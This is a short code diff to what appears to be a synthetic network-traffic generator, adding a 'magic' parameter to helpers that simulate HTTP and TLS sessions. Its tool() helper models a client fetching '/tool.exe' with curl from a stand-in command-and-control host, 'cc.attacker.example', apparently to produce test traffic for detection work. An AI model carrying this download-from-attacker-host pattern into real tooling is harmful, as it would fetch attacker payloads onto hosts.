@@ -21,9 +21,9 @@ def connect(network, client, name, port, at_us, address=None):
     return Tcp(network, client, server, port, at_us, rtt_us=30000).open()
 
 
-def http(network, client, name, path, agent, size, kind, at_us, address=None, port=80):
+def http(network, client, name, path, agent, size, kind, at_us, address=None, port=80, magic=""):
     session = connect(network, client, name, port, at_us, address)
-    web.fetch(session, name or address, path, agent=agent, answer=size, kind=kind)
+    web.fetch(session, name or address, path, agent=agent, answer=size, kind=kind, magic=magic)
     session.close()
 
 
@@ -36,11 +36,11 @@ def tls(network, client, name, size, at_us, print_of=CURL, address=None, port=44
 
 
 def tool(network, rng, client="10.1.1.90", scheme="http", name="cc.attacker.example", address=None,
-         size=1300000, start_s=400, port=None, version="1.3"):
+         size=1300000, start_s=400, port=None, version="1.3", magic=""):
     here, at_us = network.host(client), network.us(start_s + rng.random())
     if scheme == "http":
         http(network, here, name, "/tool.exe", web.CURL, size, "application/x-msdos-program", at_us,
-             address, port or 80)
+             address, port or 80, magic)
     else:
         tls(network, here, name, size, at_us, CURL, address, port or 443, version=version)
 
